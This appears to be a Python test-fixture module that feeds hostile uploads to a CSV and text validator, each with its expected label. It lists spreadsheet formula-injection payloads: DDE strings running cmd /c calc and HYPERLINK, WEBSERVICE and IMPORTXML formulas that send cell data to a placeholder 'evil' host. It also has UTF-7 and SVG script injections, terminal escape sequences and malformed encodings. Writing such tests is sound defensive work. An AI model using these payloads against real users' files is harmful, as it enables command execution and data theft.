"""Tables and texts: formulas, encodings, lines without end."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.case import Case

CSV, TXT = "text/csv", "text/plain"
FORMULAS = {
    "DDE": "=cmd|' /C calc'!A0",
    "DDE behind a sum": "=2+5+cmd|' /C calc'!A0",
    "DDE with a minus": "-2+3+cmd|' /C calc'!A0",
    "DDE with a plus": "+cmd|' /C calc'!A0",
    "DDE with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://127.0.0.1:8999/evil?"&A1,"open")',
    "link in quotes": '"=HYPERLINK(""http://127.0.0.1:8999/evil"")"',
    "service": '=WEBSERVICE("http://127.0.0.1:8999/evil")',
    "picture": '=IMAGE("http://127.0.0.1:8999/evil")',
    "sheet": '=IMPORTXML("http://127.0.0.1:8999/evil","//a")',
    "spaces": "   =1+cmd|'/c calc'!A1",
    "power shell": "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "call": "+WEBSERVICE(1)",
    "apostrophe": "'=1+1|' calc'!A1",
}


def cases() -> Iterator[Case]:
    yield Case("csv", "a.csv", b"date,t\n2026-06-01,4.2\n", CSV)
    yield Case("csv with signs", "a.csv", "a,b\n-,+91 98\n-4.2,- see note\n+ve,-ve\nतापमान,—\n".encode(), CSV)
    yield Case("csv with a mark", "a.csv", "\ufeffनाम,t\n".encode(), CSV)
    yield Case("text", "a.txt", b"Run 7 = 4.2 kg\n=====\n", TXT)
    for label, cell in FORMULAS.items():
        yield Case(f"formula: {label}", "a.csv", f"name,value\nx,{cell}\n".encode(), "formula")
        yield Case(f"formula first: {label}", "a.csv", f"{cell},x\n".encode(), "formula")
    yield Case("formula behind a mark", "a.csv", "\ufeff=1+cmd|'/c calc'!A1\n".encode(), "formula")
    yield Case("formula behind semicolons", "a.csv", b"a;b\nx;=1+1\n", "formula")
    yield Case("formula behind a tab", "a.csv", b"a\tb\nx\t=1+1\n", "formula")
    yield Case("UTF-16", "a.csv", "a,b\n".encode("utf-16"), "utf_16")
    yield Case("UTF-16 without a mark", "a.csv", "a,b\n".encode("utf-16-le"), "nul")
    yield Case("UTF-16, big end first", "a.txt", b"\xfe\xff" + "a".encode("utf-16-be"), "utf_16")
    yield Case("UTF-32", "a.csv", "a,b\n".encode("utf-32"), "utf_16")
    yield Case("UTF-7 with a script", "a.csv", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-,b\n", "formula")
    yield Case("UTF-7", "a.csv", b"+ADw-b+AD4-bold+ADw-/b+AD4-,b\n", CSV)
    yield Case("ISCII, or anything in one byte", "a.csv", b"a,b\n\xe9t\xe9,1\n", "not_utf_8")
    yield Case("overlong", "a.txt", b"\xc0\xaf", "not_utf_8")
    yield Case("half a character at the end", "a.txt", "न".encode()[:2], "not_utf_8")
    yield Case("a surrogate", "a.txt", b"\xed\xa0\x80", "not_utf_8")
    yield Case("a NUL", "a.txt", b"a\0b", "nul")
    yield Case("a program", "a.txt", b"MZ\x90\0\3\0\0\0", "nul")
    yield Case("a zip", "a.csv", b"PK\x03\x04\x14\0\0\0", "nul")
    yield Case("a line of 5 MB", "a.csv", b"a," * 2_500_000, "long_line")
    yield Case("a line of 5 MB at the end", "a.txt", b"a\n" + b"b" * 5_000_000, "long_line")
    yield Case("2,000,000 lines", "a.csv", b"\n" * 2_000_000, CSV)
    yield Case("200,000 columns", "a.csv", b"," * 90_000 + b"\n" + b"," * 90_000, CSV)
    yield Case("html as csv", "a.csv", b"<html><script>document.title='ran'</script></html>\n", CSV)
    yield Case("html as text", "a.txt", b"<!DOCTYPE html><script>document.title='ran'</script>\n", TXT)
    yield Case("svg as text", "a.txt", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\n", TXT)
    yield Case("signs that move a terminal", "a.txt", b"\x1b]0;title\x07\x1b[2J\n", TXT)
    yield Case("quotes that never end", "a.csv", b'a,"b\n' * 1000, CSV)
    yield Case("nothing", "a.pdf", b"", "empty")
    yield Case("nothing, in a table", "a.csv", b"", "empty")
